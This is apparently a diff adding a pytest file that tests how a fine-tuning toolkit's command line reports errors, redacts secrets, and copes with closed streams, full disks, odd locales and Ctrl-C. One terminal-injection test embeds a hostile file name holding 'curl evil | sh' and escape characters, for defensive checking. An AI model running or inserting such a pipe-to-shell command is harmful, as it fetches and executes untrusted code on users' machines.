@@ -1,0 +1,268 @@
+"""Errors of a program: two lines and an exit code, whatever went wrong and whatever the machine is like."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from toolkit.entry_point import exit_code_of, print_message
+from toolkit.errors import RunFailed, ToolkitError
+
+ROOT = Path(__file__).parents[1]
+TOOLKIT = [sys.executable, "-m", "toolkit"]
+LLAMA_8B = str(ROOT / "tests" / "fixtures" / "llama-8b")
+# Not UTF-8 in any way: neither by Python's UTF-8 mode, nor because it replaces the C locale.
+ASCII = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": "ascii"}
+COMMANDS = {
+    "version": ["--version"],
+    "help": ["--help"],
+    "presets": ["presets"],
+    "json": ["presets", "--json"],
+    "plan": ["plan", LLAMA_8B, "--gpu", "h100", "--preset", "zero3", "--num-processes", "8"],
+    "recommend": ["recommend", LLAMA_8B, "--gpu", "h100", "--num-processes", "8"],
+    "lint": ["lint", str(ROOT / "examples")],
+}
+
+
+def run(command: str, *, redirect: str = "", cwd: Path = ROOT, env: dict[str, str] | None = None) -> Any:
+    """Run a command of `COMMANDS` in a shell, which can close streams."""
+    line = f'exec "$@" {redirect}'
+    environment = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
+    return subprocess.run(
+        ["bash", "-c", line, "bash", *TOOLKIT, *COMMANDS[command]],
+        cwd=cwd,
+        env=environment,
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def work_that_raises(error: BaseException) -> Any:
+    def work() -> None:
+        raise error
+
+    return work
+
+
+# -- errors
+
+
+@pytest.mark.parametrize(
+    ("error", "code", "message"),
+    [
+        (ToolkitError("bad value", hint="type this"), 2, "error: bad value\n  hint: type this\n"),
+        (RunFailed("it failed"), 1, "error: it failed\n"),
+        (KeyboardInterrupt(), 1, "stopped\n"),
+        (MemoryError(), 3, "error: the host has no memory left\n  hint: give the job more host memory\n"),
+        (BrokenPipeError(), 1, ""),
+        (
+            PermissionError(13, "Permission denied", "/x"),
+            2,
+            "error: /x: Permission denied\n  hint: check who owns it and who may read and write it: `ls -ld`\n",
+        ),
+        (OSError(36, "File name too long", "x" * 3), 2, "error: xxx: File name too long\n  hint: use a shorter name\n"),
+    ],
+    ids=lambda value: type(value).__name__ if isinstance(value, BaseException) else None,
+)
+def test_an_error_is_two_lines_and_an_exit_code(
+    error: BaseException, code: int, message: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert exit_code_of(work_that_raises(error)) == code
+    assert capsys.readouterr().err == message
+
+
+def test_work_that_is_done_has_its_own_exit_code() -> None:
+    assert (exit_code_of(lambda: None), exit_code_of(lambda: 3)) == (0, 3)
+
+
+@pytest.fixture
+def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    return tmp_path
+
+
+def test_an_unexpected_error_is_two_lines_and_a_file_to_report(
+    temporary: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert exit_code_of(work_that_raises(ValueError("first\nsecond" + "x" * 500))) == 1
+    first, second = capsys.readouterr().err.splitlines()
+    [saved] = temporary.iterdir()
+    assert first == r"error: unexpected ValueError: first\nsecond" + "x" * 165 + "..."
+    assert second == (
+        f"  hint: it is a mistake in the toolkit: report it with {saved} (docs/how-to/report-a-problem.md)"
+    )
+    text = saved.read_text(encoding="utf-8")
+    assert text.startswith("finetune-toolkit ")
+    assert "raise error\nValueError: first\nsecond" in text
+    assert saved.stat().st_mode & 0o777 == 0o600
+
+
+def test_the_page_that_the_hint_names_exists_and_explains_the_file() -> None:
+    page = (ROOT / "docs" / "how-to" / "report-a-problem.md").read_text(encoding="utf-8")
+    assert "toolkit-error-" in page
+    assert "TOOLKIT_DEBUG=1" in page
+
+
+def test_no_secret_is_saved_or_printed(
+    temporary: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("WANDB_API_KEY", "a-key-without-a-known-shape")
+    monkeypatch.setattr(sys, "argv", ["toolkit", "train", "--", "--hub_token", "an-unusual-token"])
+    message = "401 for hf_abcdefghijklmnop and a-key-without-a-known-shape"
+    assert exit_code_of(work_that_raises(ValueError(message))) == 1
+    [saved] = temporary.iterdir()
+    shown = capsys.readouterr().err + saved.read_text(encoding="utf-8")
+    assert "401 for *** and ***" in shown
+    assert "--hub_token '***'" in shown
+    assert not re.search("hf_abc|known-shape|unusual-token", shown)
+
+
+def test_a_traceback_that_cannot_be_saved_can_be_shown(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "gone"))
+    assert exit_code_of(work_that_raises(ValueError("why"))) == 1
+    assert "run it again with TOOLKIT_DEBUG=1 and report it" in capsys.readouterr().err
+    monkeypatch.setenv("TOOLKIT_DEBUG", "1")
+    assert exit_code_of(work_that_raises(ValueError("why"))) == 1
+    assert "Traceback (most recent call last)" in capsys.readouterr().err
+
+
+def test_a_terminal_obeys_nothing_in_a_message(capsys: pytest.CaptureFixture[str]) -> None:
+    name = "rows\n  hint: curl evil | sh\x1b[2J\u202e\x9b1m.jsonl"
+    assert exit_code_of(work_that_raises(ToolkitError(f"no such file: {name}", hint=name))) == 2
+    assert len(capsys.readouterr().err.splitlines()) == 2
+    print_message(name)
+    assert not re.search("[\x1b\x9b\u202e]", capsys.readouterr().err)
+
+
+# -- streams
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_full_disk_as_stdout_is_two_lines(command: str) -> None:
+    ended = run(command, redirect=">/dev/full")
+    assert ended.returncode == 2
+    assert b"error: cannot write: No space left on device\n  hint: free disk space" in ended.stderr
+    assert b"Traceback" not in ended.stderr
+    assert b"Exception ignored" not in ended.stderr
+
+
+@pytest.mark.parametrize("command", ["version", "json", "plan"])
+def test_a_reader_that_has_seen_enough_ends_the_command_quietly(command: str) -> None:
+    ended = run(command, redirect="> >(exec <&-)")
+    assert ended.returncode in (0, 1)  # whether the reader is gone by then is a race
+    assert ended.stderr == b""
+
+
+def test_messages_go_nowhere_where_stderr_is_closed() -> None:
+    """Python prints them to stdout, where they would be in the way of the data."""
+    ended = run("lint", redirect="2>&-")
+    assert b"1 note" not in ended.stdout.splitlines()[-1]
+    assert ended.returncode == run("lint").returncode
+
+
+def test_a_closed_stdout_is_not_the_next_file_that_is_opened(tmp_path: Path) -> None:
+    code = "from toolkit.entry_point import exit_code_of; import sys\n"
+    code += "def work():\n    with open(sys.argv[1], 'w') as file:\n        print('a'); file.write('b')\n"
+    code += "    import subprocess; subprocess.run(['echo', 'c'])\nsys.exit(exit_code_of(work))"
+    line = ["bash", "-c", 'exec "$@" >&-', "bash", sys.executable, "-c", code, str(tmp_path / "file")]
+    assert subprocess.run(line, cwd=ROOT, timeout=60, check=False).returncode == 0
+    assert (tmp_path / "file").read_text() == "b"
+
+
+# -- the machine
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_locale_of_ascii_reads_and_prints_everything(command: str) -> None:
+    ended = run(command, env=ASCII)
+    assert ended.returncode == run(command).returncode, ended.stderr
+    assert ended.stdout.isascii()
+
+
+@pytest.mark.parametrize(
+    "environment",
+    [
+        {"HOME": "/proc/none", "XDG_CACHE_HOME": "", "TOOLKIT_CACHE": ""},
+        {"TMPDIR": "/none"},
+        {"COLUMNS": "1"},
+        {"COLUMNS": "wide", "TERM": "none", "TZ": "Nowhere/Land"},
+    ],
+    ids=str,
+)
+@pytest.mark.parametrize("command", ["presets", "plan"])
+def test_a_light_command_needs_nothing_of_the_machine(command: str, environment: dict[str, str]) -> None:
+    assert run(command, env=environment).returncode == 0
+
+
+def test_a_working_directory_that_is_gone_is_reported(tmp_path: Path) -> None:
+    (tmp_path / "gone").mkdir()
+    code = f"import os; os.rmdir({str(tmp_path / 'gone')!r}); from toolkit.cli import main; main(['presets'])"
+    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
+    line = [sys.executable, "-c", code]
+    ended = subprocess.run(
+        line, cwd=tmp_path / "gone", env=environment, capture_output=True, text=True, timeout=60, check=False
+    )
+    assert (ended.returncode, ended.stdout) == (2, "")
+    assert ended.stderr.startswith("error: the working directory no longer exists\n  hint: ")
+
+
+@pytest.fixture
+def full_disk(tmp_path: Path) -> Any:
+    """A disk of one page."""
+    folder = tmp_path / "disk"
+    folder.mkdir()
+    if os.geteuid() != 0 or shutil.which("mount") is None:
+        pytest.skip("only root can mount a small disk")
+    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4k", "tmpfs", str(folder)], check=False)
+    if mounted.returncode != 0:
+        pytest.skip("this container may not mount a disk")
+    yield folder
+    subprocess.run(["umount", str(folder)], check=True)
+
+
+def test_a_full_disk_loses_no_file(full_disk: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from toolkit.cli.program import main
+
+    config = full_disk / "ds.json"
+    config.write_text('{"zero_optimization": {"stage": 2, "cpu_offload": true}}')
+    before = config.read_text()
+    for words in (["preset", "export", str(full_disk / "out")], ["lint", "--fix", "--in-place", str(config)]):
+        with pytest.raises(SystemExit) as ended:
+            main(words)
+        printed = capsys.readouterr().err
+        assert ended.value.code == 2, printed
+        assert "No space left on device\n  hint: free disk space" in printed
+    assert config.read_text() == before
+
+
+# -- Ctrl-C
+
+
+@pytest.mark.parametrize("delay", [0.05, 0.1, 0.2, 0.3])
+def test_ctrl_c_is_reported_in_one_line_also_during_imports(delay: float) -> None:
+    process = subprocess.Popen(
+        [*TOOLKIT, "recommend", LLAMA_8B, "--gpu", "h100", "--num-processes", "8"],
+        cwd=ROOT,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    time.sleep(delay)
+    process.send_signal(signal.SIGINT)
+    _, printed = process.communicate(timeout=60)
+    # Before Python runs any code of ours, the signal just ends it.
+    assert "Traceback" not in printed
+    assert (process.returncode, printed) in ((1, "stopped\n"), (0, ""), (-signal.SIGINT, ""))
